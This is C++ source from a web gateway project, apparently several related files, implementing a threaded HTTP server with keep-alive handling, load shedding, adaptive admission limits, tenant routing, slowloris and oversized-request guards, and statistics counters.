  const int port = ntohs(addr.sin_port);
  if (::listen(listen_fd_, config().listen_backlog) != 0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
    return Status::Unavailable(std::string("listen(): ") +
                               std::strerror(errno));
  }

  running_.store(true);
  {
    std::lock_guard<std::mutex> lock(queue_mu_);
    draining_ = false;
  }
  workers_.clear();
  for (std::size_t i = 0; i < config().workers; ++i) {
    workers_.push_back(std::make_unique<WorkerSlot>());
  }
  for (auto& slot : workers_) {
    WorkerSlot* s = slot.get();
    s->thread = std::thread([this, s] { WorkerLoop(*s); });
  }
  accept_thread_ = std::thread([this] { AcceptLoop(); });
  return port;
}

void ThreadServer::Stop() {
  if (!running_.exchange(false)) return;
  shared_.stopping.store(true);

  // 1. Stop accepting: closing the listener unblocks accept().
  ::shutdown(listen_fd_, SHUT_RDWR);
  ::close(listen_fd_);
  listen_fd_ = -1;
  if (accept_thread_.joinable()) accept_thread_.join();

  // 2. Drain: workers serve whatever is queued, then exit.
  {
    std::lock_guard<std::mutex> lock(queue_mu_);
    draining_ = true;
  }
  queue_cv_.notify_all();

  // 3. Sever idle keep-alive connections so no worker waits out a client
  //    that never sends another request. In-flight handling and the
  //    response write are unaffected (SHUT_RD only); re-arm periodically
  //    until every worker has wound down, covering connections picked up
  //    from the drained queue after the first pass.
  for (;;) {
    bool any_alive = false;
    for (auto& slot : workers_) {
      if (!slot->done.load()) any_alive = true;
      std::lock_guard<std::mutex> lock(slot->conn_mu);
      if (slot->active_fd >= 0) ::shutdown(slot->active_fd, SHUT_RD);
    }
    if (!any_alive) break;
    queue_cv_.notify_all();
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  for (auto& slot : workers_) {
    if (slot->thread.joinable()) slot->thread.join();
  }
  workers_.clear();
}

void ThreadServer::AcceptLoop() {
  while (running_.load()) {
    int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) {
      if (errno == EINTR) continue;
      if (errno == EMFILE || errno == ENFILE) {
        // Out of descriptors: nothing to close here (accept gave us
        // nothing), so just count it and retry after a beat instead of
        // abandoning the listener.
        shared_.accept_overflows.fetch_add(1, std::memory_order_relaxed);
        std::this_thread::sleep_for(std::chrono::milliseconds(5));
        continue;
      }
      break;  // listener closed by Stop()
    }
    if (resilience::FaultInjector::Global().ShouldFire(
            resilience::FaultPoint::kAcceptFail)) {
      // Simulated post-accept failure (fd exhaustion, dying client): drop
      // the connection on the floor; the client sees a reset.
      ::close(fd);
      continue;
    }
    shared_.connections_accepted.fetch_add(1, std::memory_order_relaxed);
    // Idle keep-alive timeout: a worker's recv for the *next* request on a
    // connection returns EAGAIN after this long, closing the connection.
    timeval tv{};
    tv.tv_sec =
        static_cast<time_t>(config().keepalive_timeout.count() / 1000);
    tv.tv_usec = static_cast<suseconds_t>(
        (config().keepalive_timeout.count() % 1000) * 1000);
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    int one = 1;
    ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);

    bool rejected = false;
    {
      std::lock_guard<std::mutex> lock(queue_mu_);
      if (queue_.size() >= config().queue_capacity) {
        rejected = true;
      } else {
        queue_.push_back({fd, std::chrono::steady_clock::now()});
      }
    }
    if (rejected) {
      shared_.connections_rejected.fetch_add(1, std::memory_order_relaxed);
      Reject503(fd);
    } else {
      queue_cv_.notify_one();
    }
  }
}

void ThreadServer::RejectConnection(int fd, int status, const char* body) {
  // Drain the request already in flight before answering: closing with
  // unread bytes in the receive buffer makes the kernel send RST, and the
  // peer would never see the refusal. The short timeout bounds how long a
  // refusal path can stall on a slow client.
  timeval tv{};
  tv.tv_usec = 250 * 1000;
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  std::string buf;
  (void)ReadOneRequest(fd, buf, config());
  http::Response refusal;
  refusal.status = status;
  refusal.body = body;
  webapp::SendAll(fd, RenderResponse(refusal, false));
  // Half-close and wait for the peer's EOF so the response is delivered
  // before the full close.
  ::shutdown(fd, SHUT_WR);
  char sink[256];
  while (::recv(fd, sink, sizeof sink, 0) > 0) {
  }
  ::close(fd);
}

void ThreadServer::Reject503(int fd) {
  RejectConnection(fd, 503, "overloaded");
}

void ThreadServer::WorkerLoop(WorkerSlot& slot) {
  // One private application per worker: handlers and the in-memory db are
  // single-threaded; only the Joza engine is shared.
  std::unique_ptr<webapp::Application> app = shared_.factory();
  if (shared_.joza != nullptr) app->SetQueryGate(shared_.joza->MakeGate());

  for (;;) {
    QueuedConn conn;
    {
      std::unique_lock<std::mutex> lock(queue_mu_);
      queue_cv_.wait(lock, [&] { return !queue_.empty() || draining_; });
      if (queue_.empty()) break;  // draining and nothing left to serve
      conn = queue_.front();
      queue_.pop_front();
    }
    const int fd = conn.fd;
    // Deadline-aware shed: if the connection's queue wait plus the typical
    // service time already blow the request budget, its client has (or is
    // about to have) timed out — a fast 503 frees this worker for work
    // that can still make its deadline.
    if (config().shed_by_deadline && config().request_deadline.count() > 0 &&
        !shared_.stopping.load(std::memory_order_relaxed)) {
      const auto waited = std::chrono::steady_clock::now() - conn.enqueued;
      const auto estimate = shared_.service_ewma.estimate();
      if (waited + estimate > config().request_deadline) {
        const auto shed_start = std::chrono::steady_clock::now();
        shared_.shed_by_deadline.fetch_add(1, std::memory_order_relaxed);
        RejectConnection(fd, 503, "shed: deadline");
        shared_.shed_latency.Record(
            std::chrono::duration_cast<std::chrono::microseconds>(
                std::chrono::steady_clock::now() - shed_start));
        continue;
      }
    }
    {
      std::lock_guard<std::mutex> lock(slot.conn_mu);
      slot.active_fd = fd;
    }
    ServeConnection(*app, fd);
    {
      std::lock_guard<std::mutex> lock(slot.conn_mu);
      slot.active_fd = -1;
    }
    ::close(fd);
  }
  app->SetQueryGate(nullptr);
  slot.done.store(true);
}

void ThreadServer::ServeConnection(webapp::Application& app, int fd) {
  std::string buf;
  std::size_t served_on_connection = 0;
  while (served_on_connection < config().max_requests_per_connection) {
    auto& injector = resilience::FaultInjector::Global();
    if (injector.ShouldFire(resilience::FaultPoint::kSlowClient)) {
      // Stall this worker before it reads, as if the client dribbled the
      // request in slowly — saturates the pool without touching sockets.
      std::this_thread::sleep_for(injector.hang());
    }
    auto raw = ReadOneRequest(fd, buf, config());
    if (!raw.ok()) {
      // The two hostile-client guards get an explicit answer; everything
      // else (clean close, idle timeout, reset) just ends the connection.
      if (raw.status().code() == StatusCode::kDeadlineExceeded) {
        shared_.request_timeouts.fetch_add(1, std::memory_order_relaxed);
        http::Response timeout;
        timeout.status = 408;
        timeout.body = "Request Timeout";
        webapp::SendAll(fd, RenderResponse(timeout, false));
      } else if (raw.status().code() == StatusCode::kInvalidArgument) {
        shared_.oversized_requests.fetch_add(1, std::memory_order_relaxed);
        http::Response too_large;
        too_large.status = 413;
        too_large.body = "Payload Too Large";
        webapp::SendAll(fd, RenderResponse(too_large, false));
      }
      break;
    }

    http::Response response;
    bool keep_alive = false;
    auto request = http::ParseRawRequest(raw.value());
    // Tenant routing (fleet-backed servers): resolve before admission so a
    // 404/503 refusal never consumes an AIMD slot, and pin the tenant's
    // engine for the whole handling below.
    TenantRoute route;
    StatusOr<tenant::Fleet::EnginePin> pin =
        Status::NotFound("no fleet");
    if (request.ok()) {
      route = ResolveTenant(shared_, request.value());
      if (shared_.fleet != nullptr && !route.not_found) {
        pin = shared_.fleet->Acquire(route.id);
      }
    }
    if (!request.ok()) {
      shared_.bad_requests.fetch_add(1, std::memory_order_relaxed);
      response.status = 400;
      response.body = "Bad Request";
    } else if (route.not_found) {
      response.status = 404;
      response.body = "Unknown Tenant";
    } else if (shared_.fleet != nullptr && !pin.ok()) {
      // Fail-closed: the tenant exists but its engine could not be pinned
      // (cold image unreadable, budget refusal). Never serve unprotected.
      shared_.tenant_unavailable.fetch_add(1, std::memory_order_relaxed);
      response.status = 503;
      response.body = "Tenant Unavailable";
    } else if (!shared_.aimd.TryAcquire()) {
      // At the adaptive concurrency limit: refuse immediately rather than
      // stacking more work onto a backend already blowing deadlines.
      shared_.throttled_by_limiter.fetch_add(1, std::memory_order_relaxed);
      response.status = 429;
      response.body = "Too Many Requests";
      keep_alive = false;
    } else {
      keep_alive = WantsKeepAlive(raw.value());
      // Per-request budget, visible to the Joza engine (and through it the
      // daemon pool) as the ambient deadline for this worker thread.
      util::Deadline request_deadline;
      if (config().request_deadline.count() > 0) {
        request_deadline = util::Deadline::After(config().request_deadline);
      }
      const auto handle_start = std::chrono::steady_clock::now();
      {
        util::ScopedRequestDeadline scope(request_deadline);
        if (shared_.fleet != nullptr) {
          // The pin keeps the engine alive across a concurrent demotion;
          // the gate is swapped out again before the pin drops.
          app.SetQueryGate(pin.value()->MakeGate());
          response = app.Handle(request.value());
          app.SetQueryGate(nullptr);
        } else {
          response = app.Handle(request.value());
        }
      }
      const auto elapsed = std::chrono::steady_clock::now() - handle_start;
      // A completion that consumed the whole budget is the AIMD overload
      // signal; on-time completions grow the limit back.
      const bool overloaded = config().request_deadline.count() > 0 &&
                              elapsed >= config().request_deadline;
      shared_.service_ewma.Record(
          std::chrono::duration_cast<std::chrono::microseconds>(elapsed));
      shared_.aimd.Release(overloaded);
    }
    // During drain, finish this request but do not start another.
    if (shared_.stopping.load(std::memory_order_relaxed)) keep_alive = false;
    if (served_on_connection + 1 >= config().max_requests_per_connection) {
      keep_alive = false;
    }

    // Count before the send: a client that has its response in hand must
    // observe the request in stats() (tests and monitoring read it there).
    shared_.requests_served.fetch_add(1, std::memory_order_relaxed);
    if (served_on_connection > 0) {
      shared_.keepalive_reuses.fetch_add(1, std::memory_order_relaxed);
    }
    if (!webapp::SendAll(fd, RenderResponse(response, keep_alive)).ok()) {
      break;  // peer went away mid-response
    }
    ++served_on_connection;
    if (!keep_alive) break;
  }
}

}  // namespace

std::unique_ptr<ServerImpl> MakeThreadServer(GatewayShared& shared) {
  return std::make_unique<ThreadServer>(shared);
}

}  // namespace joza::gateway::internal
