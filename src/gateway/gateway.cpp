#include "gateway/gateway.h"

#include <cstdlib>
#include <cstring>

#include "gateway/server_impl.h"

namespace joza::gateway {

namespace {

GatewayConfig::IoModel ResolveIoModel(GatewayConfig::IoModel configured) {
  if (configured != GatewayConfig::IoModel::kDefault) return configured;
  if (const char* env = std::getenv("JOZA_GATEWAY_IO_MODEL")) {
    if (std::strcmp(env, "threads") == 0) {
      return GatewayConfig::IoModel::kThreads;
    }
    if (std::strcmp(env, "epoll") == 0) return GatewayConfig::IoModel::kEpoll;
  }
  return GatewayConfig::IoModel::kEpoll;
}

}  // namespace

GatewayServer::GatewayServer(AppFactory factory, core::Joza* joza,
                             GatewayConfig config) {
  if (config.workers == 0) config.workers = 1;
  if (config.queue_capacity == 0) config.queue_capacity = 1;
  if (config.batch_max == 0) config.batch_max = 1;
  shared_ = std::make_unique<internal::GatewayShared>(std::move(factory),
                                                      joza, config);
}

GatewayServer::GatewayServer(AppFactory factory, tenant::Fleet* fleet,
                             GatewayConfig config)
    : GatewayServer(std::move(factory), static_cast<core::Joza*>(nullptr),
                    std::move(config)) {
  shared_->fleet = fleet;
  // Fleet-backed servers have no single engine; seed the admission planner
  // from the fleet's engine template so batching decisions use the same
  // cost model every tenant engine runs with.
  if (fleet != nullptr) {
    shared_->planner =
        costmodel::Planner(fleet->options().engine.cost_model);
  }
}

GatewayServer::~GatewayServer() { Stop(); }

StatusOr<int> GatewayServer::Start() {
  if (running_.load()) return Status::InvalidArgument("already running");
  shared_->stopping.store(false);
  // Resolve the io model at start, not construction, so tests and CI can
  // steer a default-configured server via the environment.
  impl_ = ResolveIoModel(shared_->config.io_model) ==
                  GatewayConfig::IoModel::kThreads
              ? internal::MakeThreadServer(*shared_)
              : internal::MakeEpollServer(*shared_);
  auto port = impl_->Start();
  if (!port.ok()) {
    impl_.reset();
    return port.status();
  }
  port_ = port.value();
  running_.store(true);
  return port_;
}

void GatewayServer::Stop() {
  if (!running_.exchange(false)) return;
  impl_->Stop();
  // impl_ stays alive: per-shard counters remain readable after Stop().
}

std::size_t GatewayServer::worker_count() const {
  return shared_->config.workers;
}

std::size_t GatewayServer::shard_count() const {
  return impl_ ? impl_->shard_count() : 0;
}

std::vector<ShardStats> GatewayServer::shard_stats() const {
  return impl_ ? impl_->shard_stats() : std::vector<ShardStats>{};
}

std::vector<std::pair<const char*, std::uint64_t>> GatewayStats::Counters()
    const {
  return {
      {"connections_accepted", connections_accepted},
      {"connections_rejected", connections_rejected},
      {"requests_served", requests_served},
      {"keepalive_reuses", keepalive_reuses},
      {"bad_requests", bad_requests},
      {"request_timeouts", request_timeouts},
      {"oversized_requests", oversized_requests},
      {"shed_by_deadline", shed_by_deadline},
      {"throttled_by_limiter", throttled_by_limiter},
      {"accept_overflows", accept_overflows},
      {"batches", batches},
      {"batched_requests", batched_requests},
      {"max_batch", max_batch},
      {"batch_exact_scans", batch_exact_scans},
      {"batch_exact_reuses", batch_exact_reuses},
      {"admission_limit", admission_limit},
      {"service_estimate_us", service_estimate_us},
      {"shed_p99_us", shed_p99_us},
      {"restarts", restarts},
      {"quarantines", quarantines},
      {"hedges_won", hedges_won},
      {"retries_denied", retries_denied},
      {"tenant_routed", tenant_routed},
      {"tenant_404s", tenant_404s},
      {"tenant_unavailable", tenant_unavailable},
  };
}

GatewayStats GatewayServer::stats() const {
  const internal::GatewayShared& s = *shared_;
  GatewayStats out;
  out.connections_accepted =
      s.connections_accepted.load(std::memory_order_relaxed);
  out.connections_rejected =
      s.connections_rejected.load(std::memory_order_relaxed);
  out.requests_served = s.requests_served.load(std::memory_order_relaxed);
  out.keepalive_reuses = s.keepalive_reuses.load(std::memory_order_relaxed);
  out.bad_requests = s.bad_requests.load(std::memory_order_relaxed);
  out.request_timeouts = s.request_timeouts.load(std::memory_order_relaxed);
  out.oversized_requests =
      s.oversized_requests.load(std::memory_order_relaxed);
  out.shed_by_deadline = s.shed_by_deadline.load(std::memory_order_relaxed);
  out.throttled_by_limiter =
      s.throttled_by_limiter.load(std::memory_order_relaxed);
  out.accept_overflows = s.accept_overflows.load(std::memory_order_relaxed);
  out.batches = s.batches.load(std::memory_order_relaxed);
  out.batched_requests = s.batched_requests.load(std::memory_order_relaxed);
  out.max_batch = s.max_batch.load(std::memory_order_relaxed);
  out.batch_exact_scans =
      s.batch_exact_scans.load(std::memory_order_relaxed);
  out.batch_exact_reuses =
      s.batch_exact_reuses.load(std::memory_order_relaxed);
  out.admission_limit = static_cast<std::uint64_t>(s.aimd.limit());
  out.service_estimate_us =
      static_cast<std::uint64_t>(s.service_ewma.estimate().count());
  out.shed_p99_us = static_cast<std::uint64_t>(
      s.shed_latency
          .Quantile(0.99, std::chrono::microseconds(0), /*min_samples=*/1)
          .count());
  out.tenant_routed = s.tenant_routed.load(std::memory_order_relaxed);
  out.tenant_404s = s.tenant_404s.load(std::memory_order_relaxed);
  out.tenant_unavailable =
      s.tenant_unavailable.load(std::memory_order_relaxed);
  if (resilience_provider_) resilience_provider_(out);
  if (s.joza != nullptr || s.fleet != nullptr) {
    const core::JozaStats engine = s.joza != nullptr
                                       ? s.joza->stats()
                                       : s.fleet->AggregateEngineStats();
    out.ruleset_version = engine.ruleset_version;
    out.ruleset_swaps = engine.ruleset_swaps;
    out.nti_exact_hits = engine.nti_exact_hits;
    out.nti_seed_candidates = engine.nti_seed_candidates;
    out.nti_dp_runs = engine.nti_dp_runs;
    out.nti_tier_reference = engine.nti_tier_reference;
    out.nti_tier_bounded = engine.nti_tier_bounded;
    out.nti_tier_staged = engine.nti_tier_staged;
    out.nti_planner_exact_batch = engine.nti_planner_exact_batch;
    out.nti_planner_exact_automaton = engine.nti_planner_exact_automaton;
    out.nti_planner_exact_find = engine.nti_planner_exact_find;
    out.nti_planner_calibrated = engine.nti_planner_calibrated;
  }
  return out;
}

}  // namespace joza::gateway
