#include "gateway/gateway.h"

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <thread>

#include "resilience/injector.h"
#include "util/strings.h"
#include "webapp/http_server.h"

namespace joza::gateway {

namespace {

// Waits for `fd` to become readable before the deadline (only called with a
// finite one). Timeout = the slowloris guard fired.
Status WaitReadable(int fd, const util::Deadline& deadline) {
  for (;;) {
    pollfd pfd{};
    pfd.fd = fd;
    pfd.events = POLLIN;
    const int n = ::poll(&pfd, 1, deadline.poll_timeout_ms());
    if (n > 0) return Status::Ok();
    if (n == 0) return Status::DeadlineExceeded("request read deadline");
    if (errno == EINTR) continue;
    return Status::Unavailable(std::string("poll(): ") +
                               std::strerror(errno));
  }
}

// Reads one full HTTP request out of the connection stream. `buf` carries
// leftover bytes between calls (keep-alive pipelining); on success the
// request's raw bytes are returned and removed from `buf`. NotFound means
// the peer closed cleanly between requests; Unavailable covers idle
// timeouts (SO_RCVTIMEO) and resets. Two guards bound hostile clients:
// once a request's first byte is in, the rest must arrive within
// `read_timeout` (kDeadlineExceeded -> 408, a slowloris dribbling bytes
// cannot pin the worker) and the whole request must fit in
// `max_request_bytes` (kInvalidArgument -> 413).
StatusOr<std::string> ReadOneRequest(int fd, std::string& buf,
                                     const GatewayConfig& config) {
  // The read deadline arms at the first byte of the request, not at idle
  // wait: keep-alive connections may legitimately sit quiet for the whole
  // keepalive_timeout between requests.
  util::Deadline deadline;
  auto arm = [&] {
    if (!deadline.finite() && config.read_timeout.count() > 0) {
      deadline = util::Deadline::After(config.read_timeout);
    }
  };
  if (!buf.empty()) arm();  // pipelined leftovers already started the clock

  std::size_t header_end = buf.find("\r\n\r\n");
  char chunk[4096];
  while (header_end == std::string::npos) {
    if (deadline.finite()) {
      if (Status st = WaitReadable(fd, deadline); !st.ok()) return st;
    }
    ssize_t n = ::recv(fd, chunk, sizeof chunk, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Unavailable(std::string("recv(): ") +
                                 std::strerror(errno));
    }
    if (n == 0) {
      if (buf.empty()) return Status::NotFound("peer closed");
      return Status::Unavailable("connection closed mid-request");
    }
    buf.append(chunk, static_cast<std::size_t>(n));
    arm();
    if (buf.size() > config.max_request_bytes) {
      return Status::InvalidArgument("request too large");
    }
    header_end = buf.find("\r\n\r\n");
  }

  std::size_t content_length = 0;
  const std::size_t cl =
      FindIgnoreCase(std::string_view(buf).substr(0, header_end),
                     "content-length:");
  if (cl != std::string_view::npos) {
    content_length = static_cast<std::size_t>(
        std::strtoul(buf.c_str() + cl + 15, nullptr, 10));
    if (content_length > config.max_request_bytes ||
        header_end + 4 + content_length > config.max_request_bytes) {
      return Status::InvalidArgument("request body too large");
    }
  }
  const std::size_t total = header_end + 4 + content_length;
  while (buf.size() < total) {
    if (deadline.finite()) {
      if (Status st = WaitReadable(fd, deadline); !st.ok()) return st;
    }
    ssize_t n = ::recv(fd, chunk, sizeof chunk, 0);
    if (n < 0) {
      if (errno == EINTR) continue;
      return Status::Unavailable("recv() during body");
    }
    if (n == 0) return Status::Unavailable("connection closed mid-body");
    buf.append(chunk, static_cast<std::size_t>(n));
    arm();
  }
  std::string raw = buf.substr(0, total);
  buf.erase(0, total);
  return raw;
}

// HTTP/1.1 defaults to keep-alive, HTTP/1.0 to close; an explicit
// Connection header on the first line block overrides either way.
bool WantsKeepAlive(std::string_view raw) {
  const std::size_t line_end = raw.find("\r\n");
  const bool http11 =
      raw.substr(0, line_end == std::string_view::npos ? 0 : line_end)
          .find("HTTP/1.1") != std::string_view::npos;
  const std::size_t header_end = raw.find("\r\n\r\n");
  const std::string_view headers =
      raw.substr(0, header_end == std::string_view::npos ? raw.size()
                                                         : header_end);
  const std::size_t conn = FindIgnoreCase(headers, "connection:");
  if (conn == std::string_view::npos) return http11;
  const std::size_t value_end = headers.find("\r\n", conn);
  const std::string_view value = headers.substr(
      conn, value_end == std::string_view::npos ? headers.size() - conn
                                                : value_end - conn);
  if (FindIgnoreCase(value, "close") != std::string_view::npos) return false;
  if (FindIgnoreCase(value, "keep-alive") != std::string_view::npos) {
    return true;
  }
  return http11;
}

std::string RenderResponse(const http::Response& response, bool keep_alive) {
  std::string out = "HTTP/1.1 " + std::to_string(response.status) + " " +
                    webapp::ReasonPhrase(response.status) + "\r\n";
  out += "Content-Type: text/html\r\n";
  out += "Content-Length: " + std::to_string(response.body.size()) + "\r\n";
  out += "X-Virtual-Time-Ms: " + std::to_string(response.virtual_time_ms) +
         "\r\n";
  out += keep_alive ? "Connection: keep-alive\r\n\r\n"
                    : "Connection: close\r\n\r\n";
  out += response.body;
  return out;
}

}  // namespace

GatewayServer::GatewayServer(AppFactory factory, core::Joza* joza,
                             GatewayConfig config)
    : factory_(std::move(factory)),
      joza_(joza),
      config_(config),
      aimd_(config.admission) {
  if (config_.workers == 0) config_.workers = 1;
  if (config_.queue_capacity == 0) config_.queue_capacity = 1;
}

GatewayServer::~GatewayServer() { Stop(); }

StatusOr<int> GatewayServer::Start() {
  if (running_.load()) return Status::InvalidArgument("already running");
  listen_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (listen_fd_ < 0) {
    return Status::Unavailable(std::string("socket(): ") +
                               std::strerror(errno));
  }
  int one = 1;
  ::setsockopt(listen_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(static_cast<std::uint16_t>(config_.port));
  if (::bind(listen_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof addr) !=
      0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
    return Status::Unavailable(std::string("bind(): ") +
                               std::strerror(errno));
  }
  socklen_t len = sizeof addr;
  ::getsockname(listen_fd_, reinterpret_cast<sockaddr*>(&addr), &len);
  port_ = ntohs(addr.sin_port);
  if (::listen(listen_fd_, config_.listen_backlog) != 0) {
    ::close(listen_fd_);
    listen_fd_ = -1;
    return Status::Unavailable(std::string("listen(): ") +
                               std::strerror(errno));
  }

  running_.store(true);
  stopping_.store(false);
  {
    std::lock_guard<std::mutex> lock(queue_mu_);
    draining_ = false;
  }
  workers_.clear();
  for (std::size_t i = 0; i < config_.workers; ++i) {
    workers_.push_back(std::make_unique<WorkerSlot>());
  }
  for (auto& slot : workers_) {
    WorkerSlot* s = slot.get();
    s->thread = std::thread([this, s] { WorkerLoop(*s); });
  }
  accept_thread_ = std::thread([this] { AcceptLoop(); });
  return port_;
}

void GatewayServer::Stop() {
  if (!running_.exchange(false)) return;
  stopping_.store(true);

  // 1. Stop accepting: closing the listener unblocks accept().
  ::shutdown(listen_fd_, SHUT_RDWR);
  ::close(listen_fd_);
  listen_fd_ = -1;
  if (accept_thread_.joinable()) accept_thread_.join();

  // 2. Drain: workers serve whatever is queued, then exit.
  {
    std::lock_guard<std::mutex> lock(queue_mu_);
    draining_ = true;
  }
  queue_cv_.notify_all();

  // 3. Sever idle keep-alive connections so no worker waits out a client
  //    that never sends another request. In-flight handling and the
  //    response write are unaffected (SHUT_RD only); re-arm periodically
  //    until every worker has wound down, covering connections picked up
  //    from the drained queue after the first pass.
  for (;;) {
    bool any_alive = false;
    for (auto& slot : workers_) {
      if (!slot->done.load()) any_alive = true;
      std::lock_guard<std::mutex> lock(slot->conn_mu);
      if (slot->active_fd >= 0) ::shutdown(slot->active_fd, SHUT_RD);
    }
    if (!any_alive) break;
    queue_cv_.notify_all();
    std::this_thread::sleep_for(std::chrono::milliseconds(2));
  }
  for (auto& slot : workers_) {
    if (slot->thread.joinable()) slot->thread.join();
  }
  workers_.clear();
}

void GatewayServer::AcceptLoop() {
  while (running_.load()) {
    int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) {
      if (errno == EINTR) continue;
      break;  // listener closed by Stop()
    }
    if (resilience::FaultInjector::Global().ShouldFire(
            resilience::FaultPoint::kAcceptFail)) {
      // Simulated post-accept failure (fd exhaustion, dying client): drop
      // the connection on the floor; the client sees a reset.
      ::close(fd);
      continue;
    }
    connections_accepted_.fetch_add(1, std::memory_order_relaxed);
    // Idle keep-alive timeout: a worker's recv for the *next* request on a
    // connection returns EAGAIN after this long, closing the connection.
    timeval tv{};
    tv.tv_sec =
        static_cast<time_t>(config_.keepalive_timeout.count() / 1000);
    tv.tv_usec = static_cast<suseconds_t>(
        (config_.keepalive_timeout.count() % 1000) * 1000);
    ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
    int one = 1;
    ::setsockopt(fd, IPPROTO_TCP, TCP_NODELAY, &one, sizeof one);

    bool rejected = false;
    {
      std::lock_guard<std::mutex> lock(queue_mu_);
      if (queue_.size() >= config_.queue_capacity) {
        rejected = true;
      } else {
        queue_.push_back({fd, std::chrono::steady_clock::now()});
      }
    }
    if (rejected) {
      connections_rejected_.fetch_add(1, std::memory_order_relaxed);
      Reject503(fd);
    } else {
      queue_cv_.notify_one();
    }
  }
}

void GatewayServer::RejectConnection(int fd, int status, const char* body) {
  // Drain the request already in flight before answering: closing with
  // unread bytes in the receive buffer makes the kernel send RST, and the
  // peer would never see the refusal. The short timeout bounds how long a
  // refusal path can stall on a slow client.
  timeval tv{};
  tv.tv_usec = 250 * 1000;
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof tv);
  std::string buf;
  (void)ReadOneRequest(fd, buf, config_);
  http::Response refusal;
  refusal.status = status;
  refusal.body = body;
  webapp::SendAll(fd, RenderResponse(refusal, false));
  // Half-close and wait for the peer's EOF so the response is delivered
  // before the full close.
  ::shutdown(fd, SHUT_WR);
  char sink[256];
  while (::recv(fd, sink, sizeof sink, 0) > 0) {
  }
  ::close(fd);
}

void GatewayServer::Reject503(int fd) { RejectConnection(fd, 503, "overloaded"); }

void GatewayServer::WorkerLoop(WorkerSlot& slot) {
  // One private application per worker: handlers and the in-memory db are
  // single-threaded; only the Joza engine is shared.
  std::unique_ptr<webapp::Application> app = factory_();
  if (joza_ != nullptr) app->SetQueryGate(joza_->MakeGate());

  for (;;) {
    QueuedConn conn;
    {
      std::unique_lock<std::mutex> lock(queue_mu_);
      queue_cv_.wait(lock, [&] { return !queue_.empty() || draining_; });
      if (queue_.empty()) break;  // draining and nothing left to serve
      conn = queue_.front();
      queue_.pop_front();
    }
    const int fd = conn.fd;
    // Deadline-aware shed: if the connection's queue wait plus the typical
    // service time already blow the request budget, its client has (or is
    // about to have) timed out — a fast 503 frees this worker for work
    // that can still make its deadline.
    if (config_.shed_by_deadline && config_.request_deadline.count() > 0 &&
        !stopping_.load(std::memory_order_relaxed)) {
      const auto waited = std::chrono::steady_clock::now() - conn.enqueued;
      const auto estimate = service_ewma_.estimate();
      if (waited + estimate > config_.request_deadline) {
        const auto shed_start = std::chrono::steady_clock::now();
        shed_by_deadline_.fetch_add(1, std::memory_order_relaxed);
        RejectConnection(fd, 503, "shed: deadline");
        shed_latency_.Record(
            std::chrono::duration_cast<std::chrono::microseconds>(
                std::chrono::steady_clock::now() - shed_start));
        continue;
      }
    }
    {
      std::lock_guard<std::mutex> lock(slot.conn_mu);
      slot.active_fd = fd;
    }
    ServeConnection(*app, fd);
    {
      std::lock_guard<std::mutex> lock(slot.conn_mu);
      slot.active_fd = -1;
    }
    ::close(fd);
  }
  app->SetQueryGate(nullptr);
  slot.done.store(true);
}

void GatewayServer::ServeConnection(webapp::Application& app, int fd) {
  std::string buf;
  std::size_t served_on_connection = 0;
  while (served_on_connection < config_.max_requests_per_connection) {
    auto& injector = resilience::FaultInjector::Global();
    if (injector.ShouldFire(resilience::FaultPoint::kSlowClient)) {
      // Stall this worker before it reads, as if the client dribbled the
      // request in slowly — saturates the pool without touching sockets.
      std::this_thread::sleep_for(injector.hang());
    }
    auto raw = ReadOneRequest(fd, buf, config_);
    if (!raw.ok()) {
      // The two hostile-client guards get an explicit answer; everything
      // else (clean close, idle timeout, reset) just ends the connection.
      if (raw.status().code() == StatusCode::kDeadlineExceeded) {
        request_timeouts_.fetch_add(1, std::memory_order_relaxed);
        http::Response timeout;
        timeout.status = 408;
        timeout.body = "Request Timeout";
        webapp::SendAll(fd, RenderResponse(timeout, false));
      } else if (raw.status().code() == StatusCode::kInvalidArgument) {
        oversized_requests_.fetch_add(1, std::memory_order_relaxed);
        http::Response too_large;
        too_large.status = 413;
        too_large.body = "Payload Too Large";
        webapp::SendAll(fd, RenderResponse(too_large, false));
      }
      break;
    }

    http::Response response;
    bool keep_alive = false;
    auto request = http::ParseRawRequest(raw.value());
    if (!request.ok()) {
      bad_requests_.fetch_add(1, std::memory_order_relaxed);
      response.status = 400;
      response.body = "Bad Request";
    } else if (!aimd_.TryAcquire()) {
      // At the adaptive concurrency limit: refuse immediately rather than
      // stacking more work onto a backend already blowing deadlines.
      throttled_by_limiter_.fetch_add(1, std::memory_order_relaxed);
      response.status = 429;
      response.body = "Too Many Requests";
      keep_alive = false;
    } else {
      keep_alive = WantsKeepAlive(raw.value());
      // Per-request budget, visible to the Joza engine (and through it the
      // daemon pool) as the ambient deadline for this worker thread.
      util::Deadline request_deadline;
      if (config_.request_deadline.count() > 0) {
        request_deadline = util::Deadline::After(config_.request_deadline);
      }
      const auto handle_start = std::chrono::steady_clock::now();
      {
        util::ScopedRequestDeadline scope(request_deadline);
        response = app.Handle(request.value());
      }
      const auto elapsed = std::chrono::steady_clock::now() - handle_start;
      // A completion that consumed the whole budget is the AIMD overload
      // signal; on-time completions grow the limit back.
      const bool overloaded = config_.request_deadline.count() > 0 &&
                              elapsed >= config_.request_deadline;
      service_ewma_.Record(
          std::chrono::duration_cast<std::chrono::microseconds>(elapsed));
      aimd_.Release(overloaded);
    }
    // During drain, finish this request but do not start another.
